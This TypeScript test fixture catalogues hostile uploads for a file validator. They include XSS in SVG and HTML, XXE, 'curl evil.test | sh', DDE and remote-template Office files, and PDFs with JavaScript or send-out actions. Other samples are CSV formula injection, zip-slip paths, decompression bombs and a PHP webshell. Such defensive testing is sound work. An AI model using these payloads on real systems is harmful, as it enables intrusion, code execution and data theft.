import { gzipSync } from 'node:zlib';
import {
  catalogPdf,
  docx,
  jpegHeader,
  latin,
  packedPdf,
  pdf,
  png,
  smallGif,
  smallJpeg,
  smallTiff,
  smallWebp,
  withComment,
  xlsx,
  zip,
} from '../hostile.fixture.ts';
import type { RefusalReason } from '../refusals.ts';

/** A file somebody may send to do harm: what it is refused with, or the name and the type it is kept under. */
export type HostileFile = {
  what: string;
  name: string;
  bytes: Buffer;
  refused?: RefusalReason;
  kept?: { name: string; type: string };
};

const megabyte = 1024 * 1024;
const payload = '<script>alert(document.domain)</script>';
const svg = (inside: string) => latin(`<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`);
const refused = (refusal: RefusalReason, files: readonly (readonly [string, string, Buffer])[]): HostileFile[] =>
  files.map(([what, name, bytes]) => ({ what, name, bytes, refused: refusal }));
const kept = (files: readonly (readonly [string, string, Buffer, string, string])[]): HostileFile[] =>
  files.map(([what, name, bytes, as, type]) => ({ what, name, bytes, kept: { name: as, type } }));

const sheet = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const pdfType = 'application/pdf';

const drawings = refused('svg', [
  ['SVG with a script', 'logo.svg', svg(payload)],
  ['SVG with an event', 'logo.svg', latin('<svg onload="alert(1)"></svg>')],
  ['SVG called PNG', 'logo.png', svg(payload)],
  ['SVG called CSV', 'logo.csv', svg(payload)],
  ['SVG behind an XML line', 'a.svg', Buffer.concat([latin('<?xml version="1.0"?>\n'), svg(payload)])],
  ['SVG behind a comment', 'a.svg', Buffer.concat([latin('<!-- a picture -->'), svg(payload)])],
  ['SVG behind blanks', 'a.svg', Buffer.concat([latin('\n\n   \t'), svg(payload)])],
  ['SVG that draws a page', 'a.svg', svg('<foreignObject><body onload="alert(1)"/></foreignObject>')],
  ['SVG that fetches', 'a.svg', svg('<image href="http://169.254.169.254/latest/meta-data"/>')],
  ['SVG that reads a file', 'a.svg', svg('<image href="file:///etc/passwd"/>')],
  ['SVG in capitals', 'a.svg', latin('<SVG ONLOAD=alert(1)></SVG>')],
  ['SVG with a doctype', 'a.svg', latin('<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"><svg onload="alert(1)"/>')],
  ['SVG behind a byte order mark', 'a.svg', Buffer.from(`\ufeff<svg onload="alert(1)"/>`)],
]);

const pages = refused('markup', [
  ['HTML', 'index.html', latin(`<!doctype html><html>${payload}</html>`)],
  ['HTML called PDF', 'receipt.pdf', latin(`<html>${payload}</html>`)],
  ['HTML called JPEG', 'photo.jpg', latin(`<html><body>${payload}`)],
  ['HTML called CSV', 'loads.csv', latin(`<html>${payload},a,b\n1,2,3`)],
  ['a script alone', 'a.csv', latin(payload)],
  ['a script in a table', 'a.csv', latin(`name,note\nAcme,${payload}\n`)],
  ['an image that fails', 'a.csv', latin('<img src=x onerror=alert(1)>,b\n1,2')],
  ['a frame in a table', 'a.csv', latin('a,b\n1,<iframe src="javascript:alert(1)">')],
  ['HTML behind blanks', 'a.html', latin(`\r\n\r\n  <html>${payload}`)],
  ['HTML behind a byte order mark', 'a.csv', Buffer.from(`\ufeff<html>${payload}`)],
  ['HTML behind a comment', 'a.htm', latin(`<!-- x --><html>${payload}`)],
  ['XHTML', 'a.xhtml', latin(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${payload}</html>`)],
  ['XML with an entity', 'a.xml', latin('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')],
  ['entities that grow', 'a.csv', latin('<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>')],
  ['a style sheet that transforms', 'a.xsl', latin('<?xml-stylesheet href="javascript:alert(1)"?><a/>')],
  ['a script in capitals', 'a.csv', latin('a,b\n1,<SCRIPT>alert(1)</SCRIPT>')],
  ['a base', 'a.csv', latin('a,b\n1,<meta http-equiv="refresh" content="0;url=//evil.test">')],
  ['an object', 'a.csv', latin('a,b\n1,<object data="//evil.test">')],
  ['PDF that is HTML', 'a.pdf', pdf('', { head: `%PDF-1.7\n%<html>${payload}</html>\n` })],
  ['PDF that is HTML, by name too', 'a.pdf.html', pdf('', { head: `%PDF-1.7\n%<script >alert(1)</script>\n` })],
  ['PDF with an archive behind', 'a.pdf', pdf('', { tail: zip([{ name: 'a.class', data: 'x' }]).toString('latin1') })],
  ['a table that is a page', 'a.tsv', latin('<table><tr><td>a</td></tr></table>')],
]);

const lies = refused('unknown_type', [
  ['plain text', 'note.txt', latin('Hello, driver, where are you?')],
  ['text called PDF', 'note.pdf', latin('Bill of lading 4711')],
  ['JavaScript', 'run.js', latin('alert(1);fetch("/api/loads")')],
  ['JavaScript called CSV', 'run.csv', latin('alert(1);\nfetch("/api/loads").then(function(r){return r})\nx')],
  ['a batch file', 'run.bat', latin('del /q c:\\*.*')],
  ['VBScript', 'run.vbs', latin('CreateObject("WScript.Shell").Run "calc.exe"')],
  ['PHP', 'run.php', latin('system($_GET["c"]);')],
  ['GIF', 'a.gif', smallGif],
  ['GIF that is JavaScript', 'a.gif', latin('GIF89a=1;alert(document.domain);')],
  ['GIF called JPEG', 'a.jpg', smallGif],
  ['BMP that is JavaScript', 'a.bmp', latin('BM=1;alert(1)//\0\0\0\0')],
  ['an icon', 'a.ico', latin('\0\0\u0001\0\u0001\0')],
  ['random bytes', 'a.pdf', Buffer.from(Array.from({ length: 512 }, (_, at) => (at * 197 + 13) % 256))],
  ['zeros', 'a.pdf', Buffer.alloc(4096)],
  ['a table with a NUL', 'a.csv', latin('a,b\n1,\0')],
  ['text of two bytes a character', 'a.csv', Buffer.from('\ufeffa,b\n1,2', 'utf16le')],
  ['a video', 'a.mp4', latin('\0\0\0\u0018ftypisom\0\0\0\0')],
  ['a sound', 'a.wav', latin('RIFF\u0010\0\0\0WAVEfmt \0\0')],
  ['a JPEG 2000', 'a.jp2', latin('\0\0\0\u000cjP  \r\n')],
  ['PostScript', 'a.pdf', latin('%!PS-Adobe-3.0\n(/etc/passwd) (r) file')],
  ['PDF with too much before', 'a.pdf', Buffer.concat([Buffer.alloc(1025, 1), pdf()])],
  ['RTF', 'a.docx', latin('{\\rtf1{\\object\\objdata 0105}}')],
  ['a shortcut', 'a.url', latin('[InternetShortcut]\nURL=file://evil.test/a')],
  ['a mail', 'a.eml', latin('From: a@b.test\nContent-Type: text/plain\n\nhello')],
]);

const programs = refused('program', [
  ['a Windows program', 'setup.exe', latin('MZ\u0090\0\u0003\0')],
  ['a Windows program called PDF', 'invoice.pdf', latin('MZ\u0090\0\u0003\0')],
  ['a Windows program called PDF twice', 'invoice.pdf.pdf', latin('MZ\u0090\0')],
  ['a Linux program', 'a.pdf', latin('\u007fELF\u0002\u0001\u0001')],
  ['a Mac program', 'a.pdf', latin('\u00cf\u00fa\u00ed\u00fe\0\0')],
  ['a Java class', 'a.class', latin('\u00ca\u00fe\u00ba\u00be\0\0')],
  ['a shell script', 'a.csv', latin('#!/bin/sh\ncurl evil.test, | sh\n')],
  ['WebAssembly', 'a.wasm', latin('\0asm\u0001\0\0\0')],
]);

const archives = refused('archive', [
  ['ZIP', 'a.zip', zip([{ name: 'a.txt', data: 'a' }])],
  ['ZIP called XLSX', 'a.xlsx', zip([{ name: 'a.txt', data: 'a' }])],
  ['ZIP with a page', 'a.zip', zip([{ name: 'index.html', data: payload }])],
  ['a Java archive', 'a.jar', zip([{ name: 'META-INF/MANIFEST.MF', data: 'Main-Class: A' }])],
  ['a sheet without its list of types', 'a.xlsx', zip([{ name: 'xl/workbook.xml', data: '<workbook/>' }])],
  ['a presentation', 'a.pptx', zip([{ name: '[Content_Types].xml', data: '<a/>' }, { name: 'ppt/presentation.xml', data: '' }])],
  ['RAR', 'a.rar', latin('Rar!\u001a\u0007\0')],
  ['7z', 'a.7z', latin("7z\u00bc\u00af'\u001c\0\u0004")],
  ['gzip bomb', 'a.csv', gzipSync(Buffer.alloc(20 * megabyte))],
  ['compressed SVG', 'a.svgz', gzipSync(svg(payload))],
  ['bzip2', 'a.bz2', latin('BZh91AY&SY')],
  ['xz', 'a.xz', latin('\u00fd7zXZ\0')],
]);

const rels = (target: string, kind: string) =>
  `<Relationships><Relationship Id="r" Type="http://a/${kind}" Target="${target}" TargetMode="External"/></Relationships>`;

const template = rels('https://evil.test/a.dotm', 'attachedTemplate');
const settingsRels = (data: Buffer | string) => docx([{ name: 'word/_rels/settings.xml.rels', data }]);
const letter = (inside: string) => docx([{ name: 'word/header1.xml', data: `<w:hdr xmlns:w="w">${inside}</w:hdr>` }]);
const instruction = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
const sheetOf = (formula: string) =>
  xlsx([{ name: 'xl/worksheets/sheet1.xml', data: `<worksheet><c><f>${formula}</f></c></worksheet>` }]);

const macros = refused('macros', [
  ['a template whose mode is spelled otherwise', 'a.docx', settingsRels(template.replace('"External', '"&#69;xternal'))],
  ['a template with an attribute that looks like a link', 'a.docx', settingsRels(template.replace(' Id=', ' Foo="/hyperlink" Id='))],
  ['a template whose mode is of another name space', 'a.docx', settingsRels(template.replace(' Id=', ' x:TargetMode="Internal" Id='))],
  ['a template with a mode that no program knows', 'a.docx', settingsRels(template.replace('"External"', '"Externally"'))],
  ['a template in single quotes', 'a.docx', settingsRels(template.replaceAll('"', "'"))],
  ['a template in an element of a prefix', 'a.docx', settingsRels(template.replaceAll('Relationship', 'p:Relationship'))],
  ['a template without a mode', 'a.docx', settingsRels(template.replace(' TargetMode="External"', ''))],
  ['a picture from elsewhere', 'a.docx', settingsRels(rels('https://evil.test/a.png', 'image'))],
  ['a link to a share', 'a.docx', settingsRels(rels('\\\\evil.test\\a', 'hyperlink'))],
  ['a link to a program', 'a.docx', settingsRels(rels('file:///c:/windows/system32/cmd.exe', 'hyperlink'))],
  ['a page inside a letter', 'a.docx', settingsRels('<Relationships><Relationship Type="http://a/aFChunk" Target="a.mht"/></Relationships>')],
  ['a type of macros spelled otherwise', 'a.xlsx', xlsx([], '<Types><Override ContentType="application/vnd.ms-excel.sheet.macro&#69;nabled.main+xml"/></Types>')],
  ['a field that starts a program', 'a.docx', letter(instruction('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'))],
  ['a field cut into runs', 'a.docx', letter(`${instruction('D')}\n${instruction('D')}\n${instruction('E cmd')}`)],
  ['a field spelled otherwise', 'a.docx', letter(instruction('&#68;DE cmd'))],
  ['a field behind another', 'a.docx', letter(`${instruction('PAGE')}<w:fldChar/>${instruction(' "DDEAUTO" cmd')}`)],
  ['a simple field', 'a.docx', letter('<w:fldSimple w:instr=" DDE cmd"/>')],
  ['a field that fetches', 'a.docx', letter(instruction('INCLUDETEXT "\\\\evil.test\\a"'))],
  ['a sheet that starts a program', 'a.xlsx', xlsx([{ name: 'xl/links/link1.xml', data: '<x:ddeLink xmlns:x="x" ddeService="cmd" ddeTopic="/c calc"/>' }])],
  ['a sheet of links', 'a.xlsx', xlsx([{ name: 'xl/externalLinks/externalLink1.xml', data: '<externalLink/>' }])],
  ['a sheet that fetches when it is opened', 'a.xlsx', xlsx([{ name: 'xl/connections.xml', data: '<connections/>' }])],
  ['a sheet with macros', 'a.xlsx', xlsx([{ name: 'xl/vbaProject.bin', data: 'x' }])],
  ['a letter with macros', 'a.docx', docx([{ name: 'word/vbaProject.bin', data: 'x' }])],
  ['macros in other letters', 'a.xlsx', xlsx([{ name: 'XL/VBAPROJECT.BIN', data: 'x' }])],
  ['a sheet that says it has macros', 'a.xlsx', xlsx([], '<Types>application/vnd.ms-excel.sheet.macroEnabled.main+xml</Types>')],
  ['old macros', 'a.xlsx', xlsx([{ name: 'xl/macrosheets/sheet1.xml', data: '<x/>' }])],
  ['a control', 'a.docx', docx([{ name: 'word/activeX/activeX1.bin', data: 'x' }])],
  ['a program in a letter', 'a.docx', docx([{ name: 'word/embeddings/oleObject1.bin', data: 'x' }])],
  ['a template from elsewhere', 'a.docx', docx([{ name: 'word/_rels/settings.xml.rels', data: rels('https://evil.test/a.dotm', 'attachedTemplate') }])],
  ['an object from elsewhere', 'a.docx', docx([{ name: 'word/_rels/document.xml.rels', data: rels('mhtml:https://evil.test', 'oleObject') }])],
  ['a share from elsewhere', 'a.xlsx', xlsx([{ name: 'xl/_rels/workbook.xml.rels', data: rels('\\\\evil.test\\a', 'externalLinkPath') }])],
]);

const bombs = refused('too_big_inside', [
  ['a template behind a megabyte of blanks', 'a.docx', settingsRels(`<Relationships>${' '.repeat(megabyte)}${template}</Relationships>`)],
  ['an XLSX bomb', 'a.xlsx', xlsx([{ name: 'xl/sheet.xml', data: Buffer.alloc(12 * megabyte), repeat: 20 }])],
  ['a DOCX bomb', 'a.docx', docx([{ name: 'word/media/a.xml', data: Buffer.alloc(16 * megabyte), repeat: 12 }])],
  ['entries without end', 'a.xlsx', xlsx([{ name: 'xl/a.xml', data: 'a', repeat: 6000 }])],
  ['a PDF bomb', 'a.pdf', packedPdf(' '.repeat(20 * megabyte))],
]);

const action = (name: string) => `8 0 obj<</S/${name}/JS(app.alert(1))/F(cmd.exe)>>endobj`;

const damaged = refused('broken', [
  ['a template in two bytes a letter', 'a.docx', settingsRels(Buffer.from(`\ufeff${template}`, 'utf16le'))],
  ['a template in another encoding', 'a.docx', settingsRels(`<?xml version="1.0" ${' '.repeat(600)}encoding="utf-7"?>${template}`)],
  ['a template by an entity', 'a.docx', settingsRels(`<!DOCTYPE a [<!ENTITY e "External">]>${template.replace('External', '&e;')}`)],
  ['relations that do not end', 'a.docx', settingsRels('<Relationships><Relationship')],
  ['a part given twice', 'a.docx', docx([{ name: 'word/_rels/settings.xml.rels', data: '<a/>', repeat: 2 }])],
  ['a letter of two bytes a letter', 'a.docx', docx([{ name: 'word/header1.xml', data: Buffer.from('\ufeff<a/>', 'utf16le') }])],
  ['half a PDF', 'a.pdf', pdf().subarray(0, 120)],
  ['a PDF without its table', 'a.pdf', latin('%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF')],
  ['only a PDF’s first line', 'a.pdf', latin('%PDF-1.7\n')],
  ['a PDF with much behind', 'a.pdf', pdf('', { tail: 'x'.repeat(9000) })],
  ['a PDF whose packed objects are none', 'a.pdf', pdf('9 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\nnone at all\nendstream endobj')],
  ['a PDF whose objects are packed in another way', 'a.pdf', packedPdf(action('JavaScript'), '/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]')],
  ['a PDF whose objects are packed as said elsewhere', 'a.pdf', packedPdf(action('JavaScript'), '/Type/ObjStm/Filter 7 0 R')],
  ['a PDF whose objects are packed as differences', 'a.pdf', packedPdf(action('JavaScript'), '/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>')],
  ['a PDF whose objects are packed in two ways', 'a.pdf', packedPdf(action('JavaScript'), '/Filter/None/Type/ObjStm/Filter/FlateDecode')],
  ['a PDF of dictionaries without end', 'a.pdf', pdf('1 0 obj<<'.repeat(60_000))],
  ['half a JPEG', 'a.jpg', smallJpeg.subarray(0, smallJpeg.length / 2)],
  ['only a JPEG’s first bytes', 'a.jpg', latin('\u00ff\u00d8\u00ff\u00e0')],
  ['JPEG that is HTML', 'a.jpg', latin(`\u00ff\u00d8\u00ff<html>${payload}</html>`)],
  ['half a PNG', 'a.png', png({ width: 64, height: 64 }).subarray(0, 60)],
  ['PNG that is HTML', 'a.png', latin(`\u0089PNG\r\n\u001a\n<html>${payload}`)],
  ['PNG without rows', 'a.png', png({ width: 640, height: 640, rows: Buffer.alloc(10) })],
  ['PNG of no size', 'a.png', png({ width: 0, height: 0, rows: Buffer.alloc(1) })],
  ['half a WebP', 'a.webp', smallWebp.subarray(0, 24)],
  ['WebP that is JavaScript', 'a.webp', latin('RIFF=/**WEBP*/alert(1)')],
  ['half a TIFF', 'a.tif', smallTiff.subarray(0, 40)],
  ['TIFF that leads in circles', 'a.tif', latin('II*\0\u0008\0\0\0\0\0\u0008\0\0\0')],
  ['AVIF that is none', 'a.avif', latin('\0\0\0\u0018ftypavif\0\0\0\0')],
  ['half a sheet', 'a.xlsx', xlsx().subarray(0, 200)],
  ['a sheet with an entry outside', 'a.xlsx', xlsx([{ name: '../../../etc/cron.d/a', data: 'x' }])],
  ['a sheet with an entry at the root', 'a.xlsx', xlsx([{ name: '/etc/passwd', data: 'x' }])],
  ['a sheet with an entry outside, by backslash', 'a.xlsx', xlsx([{ name: '..\\..\\a.exe', data: 'x' }])],
  ['a sheet packed in another way', 'a.xlsx', xlsx([{ name: 'xl/a.xml', data: 'x', method: 12 }])],
  ['a ZIP with no directory', 'a.xlsx', latin(`PK\u0003\u0004${'x'.repeat(64)}`)],
]);

const actingPapers = refused('active_pdf', [
  ['PDF with a script', 'a.pdf', pdf(action('JavaScript'))],
  ['PDF with a script, spelled otherwise', 'a.pdf', pdf(action('J#61vaScript'))],
  ['PDF with a script, all spelled otherwise', 'a.pdf', pdf(action('#4a#61#76#61#53#63#72#69#70#74'))],
  ['PDF with a script among packed objects', 'a.pdf', packedPdf(action('JavaScript'))],
  ['PDF with a script, packed and spelled otherwise', 'a.pdf', packedPdf(action('J#61vaScript'), '/Type/Obj#53tm/Filter/FlateDecode')],
  ['PDF that starts a program', 'a.pdf', pdf(action('Launch'))],
  ['PDF with a program inside', 'a.pdf', pdf('8 0 obj<</Type/EmbeddedFile>>stream\nMZ\nendstream endobj')],
  ['PDF with a list of files inside', 'a.pdf', pdf('8 0 obj<</Names<</EmbeddedFiles 9 0 R>>>>endobj')],
  ['PDF with a film', 'a.pdf', pdf('8 0 obj<</Subtype/RichMedia>>endobj')],
  ['PDF with a script behind a text that looks like an object', 'a.pdf', packedPdf(action('JavaScript'), '/X(obj)/Type/ObjStm/Filter/FlateDecode')],
  ['PDF with a script behind the end of a stream in a text', 'a.pdf', packedPdf(action('JavaScript'), '/X(endstream endobj 9 0 obj)/Type/ObjStm/Filter/FlateDecode')],
  ['PDF with a script in packed objects of no type', 'a.pdf', packedPdf(action('JavaScript'), '/Filter/FlateDecode')],
  ['PDF with a script in packed objects, by reference', 'a.pdf', packedPdf(action('JavaScript'), '/Type 7 0 R/Filter[/FlateDecode]')],
  ['PDF with a script, comments between the words', 'a.pdf', pdf('8 0 obj%x\n<<%y\n/S%z\n/JavaScript/JS(app.alert(1))>>endobj')],
  ['PDF with a script in a comment its table leads to', 'a.pdf', pdf('%8 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj')],
  ['PDF with a script in a text its table leads to', 'a.pdf', pdf('7 0 obj(8 0 obj<</S/JavaScript>>endobj)endobj')],
  ['PDF with a script in a later version', 'a.pdf', Buffer.concat([pdf(), pdf(action('JavaScript'), { head: '' })])],
  ['PDF with a script packed in a later version', 'a.pdf', Buffer.concat([pdf(), packedPdf(action('JavaScript'))])],
  ['PDF that sends a form', 'a.pdf', catalogPdf('/OpenAction<</S/SubmitForm/F(http://evil.test)>>')],
  ['PDF that opens another file', 'a.pdf', catalogPdf('/OpenAction<</S/GoToR/F(//evil.test/share)>>')],
  ['PDF that opens a file inside', 'a.pdf', catalogPdf('/OpenAction<</S/GoToE>>')],
  ['PDF that imports data', 'a.pdf', catalogPdf('/OpenAction<</S/ImportData/F(//evil.test/a)>>')],
  ['PDF that goes to an address when opened', 'a.pdf', catalogPdf('/OpenAction<</S/URI/URI(http://evil.test)>>')],
  ['PDF that goes to an address when opened, by reference', 'a.pdf', catalogPdf('/Open#41ction 8 0 R', '8 0 obj<</S/URI/URI(http://evil.test)>>endobj')],
  ['PDF that goes to an address after another action', 'a.pdf', catalogPdf('/OpenAction 8 0 R', '8 0 obj<</S/GoTo/D[3 0 R/Fit]/Next[9 0 R]>>endobj 9 0 obj<</S/U#52I/URI(http://evil.test)>>endobj')],
  ['PDF whose page goes to an address', 'a.pdf', pdf('3 0 obj<</Type/Page/AA 8 0 R>>endobj 8 0 obj<</O 9 0 R>>endobj 9 0 obj<</S/URI/URI(http://evil.test)>>endobj')],
  ['PDF that goes to an address, packed', 'a.pdf', packedPdf('8 0 <</OpenAction<</S/URI/URI(http://evil.test)>>>>')],
  ['PDF with a link to a program', 'a.pdf', pdf('8 0 obj<</S/URI/URI(file:///c:/windows/system32/cmd.exe)>>endobj')],
  ['PDF with a link to a share', 'a.pdf', pdf('8 0 obj<</S/URI/URI(\\\\\\\\evil.test\\\\a)>>endobj')],
  ['PDF with a link of a script, in octal', 'a.pdf', pdf('8 0 obj<</S/URI/URI(j\\141vascript:alert\\(1\\))>>endobj')],
  ['PDF with a link of a script, in hexadecimal', 'a.pdf', pdf(`8 0 obj<</S/URI/URI<${Buffer.from('javascript:alert(1)').toString('hex')}>>>endobj`)],
  ['PDF with a form of scripts', 'a.pdf', pdf('8 0 obj<</AcroForm<</XFA 9 0 R>>>>endobj')],
]);

const lockedTrailer = (name: string): string => `trailer<</Root 1 0 R/Size 9/${name} 8 0 R/ID[<00><00>]>>`;

const others: HostileFile[] = [
  ...refused('encrypted', [
    ['PDF with a password', 'a.pdf', pdf(`8 0 obj<</Filter/Standard/V 2/R 3>>endobj\n${lockedTrailer('Encrypt')}`)],
    ['PDF with a password, spelled otherwise', 'a.pdf', pdf(`8 0 obj<</Filter/Standard/V 2/R 3>>endobj\n${lockedTrailer('E#6ecrypt')}`)],
    ['PDF with a lock of its own', 'a.pdf', pdf(`8 0 obj<</Filter/Acme>>endobj\n${lockedTrailer('Encrypt')}`)],
    ['a sheet with a password', 'a.xlsx', xlsx([{ name: 'xl/a.xml', data: 'x', flags: 1 }])],
  ]),
  ...refused('old_office', [
    ['XLS', 'a.xls', latin('\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1')],
    ['an encrypted XLSX', 'a.xlsx', latin('\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1')],
  ]),
  ...refused('heic', [
    ['HEIC', 'a.heic', latin('\0\0\0\u0018ftypheic\0\0\0\0')],
    ['HEIC called JPEG', 'a.jpg', latin('\0\0\0\u0018ftypmif1\0\0\0\0')],
  ]),
  ...refused('empty', [['nothing', 'a.pdf', Buffer.alloc(0)]]),
  ...refused('too_many_pixels', [
    ['PNG of 30,000 by 30,000', 'a.png', png({ width: 30_000, height: 30_000, rows: Buffer.alloc(megabyte) })],
    ['PNG of 30,000 by 30,000 in passes', 'a.png', png({ width: 30_000, height: 30_000, rows: Buffer.alloc(9), interlaced: true })],
    ['JPEG of 30,000 by 30,000', 'a.jpg', jpegHeader(30_000, 30_000)],
    ['JPEG of 65,500 by 65,500', 'a.jpg', jpegHeader(65_500, 65_500)],
    ['PNG bomb of 16,000 by 16,000', 'a.png', png({ width: 16_000, height: 16_000 })],
  ]),
  ...refused('too_large', [['a PDF of 26 MB', 'a.pdf', pdf('', { head: `%PDF-1.7\n%${'x'.repeat(26 * megabyte)}\n` })]]),
  ...refused('formula_commands', [
    ...[
      '=WEBSERVICE("http://evil.test/"&A1)',
      ' = webservice ("http://evil.test/"&A1)',
      '+IF(A1;WEBSERVICE("http://evil.test/"))',
      '"=HYPERLINK(""http://evil.test/""&A1)"',
      '" =IMPORTXML(""http://evil.test/"")"',
      "'=HYPERLINK(1)",
      '@IMPORTDATA("http://evil.test")',
      '-2+_xlfn.WEBSERVICE("http://evil.test")',
      '\u00a0=WEBSERVICE("a")',
      '\uff1dWEBSERVICE("a")',
      "='file:///etc/passwd'#$a.A1",
      "='\\\\evil.test\\share\\[a.xls]a'!A1",
      "=1+cmd|'/C calc'!A0",
      '"=cmd|\' /C calc\'!A0"',
      '"a\n=WEBSERVICE(1)',
    ].map((cell) => [`a table with ${JSON.stringify(cell)}`, 'a.csv', Buffer.from(`a,b\n1,${cell}\n2,3\n`)] as const),
    ['a sheet that sends', 'a.xlsx', sheetOf('_xlfn.WEB&#83;ERVICE(&quot;http://evil.test/&quot;&amp;A1)')],
    ['a sheet that starts a program by a formula', 'a.xlsx', sheetOf("cmd|'/C calc'!A0")],
    ['a table that starts a program', 'a.csv', latin("a,b\n=cmd|' /C calc'!A0,1\n2,3")],
    ['a table that starts one quietly', 'a.csv', latin("a,b\n@SUM|'x'!A1,1\n2,3")],
    ['a table that starts one in quotes', 'a.csv', latin('a;b\n"+MSEXCEL|\'\\..\\cmd.exe\'!A";1\n2;3')],
  ]),
];

/** Files that are what they say, under names that are not: kept, and called otherwise. */
const names = kept([
  ['PDF behind a page', 'a.pdf', Buffer.concat([latin('<html><script>alert(1)</script>\n'), pdf()]), 'a.pdf', 'application/pdf'],
  ['PDF with a lock on nothing', 'a.pdf', pdf('8 0 obj<</Filter/Standard>>endobj\n/Encrypt 8 0 R'), 'a.pdf', 'application/pdf'],

  ['a name that leads out', '../../../../etc/passwd', pdf(), 'passwd.pdf', pdfType],
  ['a name that leads out, by backslash', '..\\..\\windows\\win.ini', pdf(), 'win.ini.pdf', pdfType],
  ['a name at the root', '/etc/shadow.pdf', pdf(), 'shadow.pdf', pdfType],
  ['two endings', 'invoice.pdf.exe', pdf(), 'invoice.pdf', pdfType],
  ['three endings', 'invoice.html.js.pdf', pdf(), 'invoice.pdf', pdfType],
  ['an ending of another kind', 'photo.html', smallJpeg, 'photo.jpg', 'image/jpeg'],
  ['a name written backwards', 'gpj.\u202eexe.pdf', pdf(), 'gpj.pdf', pdfType],
  ['a name nobody sees', '\u200b\u2066\u2069.pdf', pdf(), 'packing_list.pdf', pdfType],
  ['only an ending', '.htaccess', pdf(), 'htaccess.pdf', pdfType],
  ['only dots', '...', pdf(), 'packing_list.pdf', pdfType],
  ['a device', 'CON.pdf', pdf(), 'packing_list.pdf', pdfType],
  ['a name of markup', '<img src=x onerror=alert(1)>.pdf', pdf(), 'img src=x onerror=alert(1).pdf', pdfType],
  ['a name of headers', 'a"; filename="b.html.pdf', pdf(), 'a 22 filename= 22b.pdf', pdfType],
  ['a very long name', `${'a'.repeat(900)}.pdf`, pdf(), `${'a'.repeat(100)}.pdf`, pdfType],
  ['a name of a stream', 'a.pdf:evil.exe', pdf(), 'a.pdf evil.pdf', pdfType],
  ['JPEG with a page in its comment', 'a.jpg', withComment(`<html>${payload}</html>`), 'a.jpg', 'image/jpeg'],
  ['JPEG with an archive behind', 'a.jpg', Buffer.concat([smallJpeg, zip([{ name: 'a.html', data: payload }])]), 'a.jpg', 'image/jpeg'],
  ['JPEG with PHP behind', 'a.php.jpg', Buffer.concat([smallJpeg, latin('<?php system($_GET[0]); ?>')]), 'a.jpg', 'image/jpeg'],
  ['JPEG called HTML', 'a.html', Buffer.concat([smallJpeg, latin(payload)]), 'a.jpg', 'image/jpeg'],
  ['PNG with a script in its text', 'a.png', png({ width: 8, height: 8, more: [['tEXt', latin(`Comment\0${payload}`)]] }), 'a.png', 'image/png'],
  ['PNG with something behind', 'a.png', Buffer.concat([png({ width: 8, height: 8 }), latin(payload)]), 'a.png', 'image/png'],
  ['WebP with a script behind', 'a.webp', Buffer.concat([smallWebp, latin(payload)]), 'a.webp', 'image/webp'],
  ['TIFF with a script behind', 'a.tiff', Buffer.concat([smallTiff, latin(payload)]), 'a.pdf', pdfType],
  ['PDF with a link', 'a.pdf', pdf('8 0 obj<</Subtype/Link/A<</S/URI/URI(https://carrier.example/track?pro=1)>>>>endobj'), 'a.pdf', pdfType],
  ['PDF that opens at a page, with a link', 'a.pdf', catalogPdf('/OpenAction 9 0 R', '3 0 obj<</Type/Page/Annots[8 0 R]>>endobj 8 0 obj<</A<</S/URI/URI(mailto:a@b.test)>>>>endobj 9 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj'), 'a.pdf', pdfType],
  ['PDF with packed objects', 'a.pdf', packedPdf('8 0 <</Type/Font>>'), 'a.pdf', pdfType],
  ['PDF of words that are no objects', 'a.pdf', pdf('stream\n'.repeat(60_000)), 'a.pdf', pdfType],
  ['PNG called PDF', 'a.pdf', png({ width: 8, height: 8 }), 'a.png', 'image/png'],
  ['PDF called PNG', 'a.png', pdf(), 'a.pdf', pdfType],
  ['a letter with links', 'a.docx', docx([{ name: 'word/_rels/document.xml.rels', data: rels('https://carrier.example/?a=1&amp;b=2', 'hyperlink') }, { name: 'word/header1.xml', data: `<w:hdr xmlns:w="w">${instruction('HYPERLINK "https://a.example/link/dde"')}${instruction('PAGE')}</w:hdr>` }]), 'a.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
  ['a sheet that calculates', 'a.xlsx', sheetOf('SUM(A1:A9)&amp;&quot; | ok&quot;'), 'a.xlsx', sheet],
  ['a table of numbers and notes', 'a.csv', Buffer.from('n,note\n-5,- see http://a.example (call us)\n+1 214 555,=A1+B1\n-1,"it said ""x"" twice"\n'), 'a.csv', 'text/csv'],
  ['a sheet called HTML', 'a.html', xlsx(), 'a.xlsx', sheet],
]);

/** All of them; none is ever served so that anything in it acts. */
export const hostileFiles: readonly HostileFile[] = [
  ...drawings,
  ...pages,
  ...lies,
  ...programs,
  ...archives,
  ...macros,
  ...bombs,
  ...damaged,
  ...actingPapers,
  ...others,
  ...names,
];
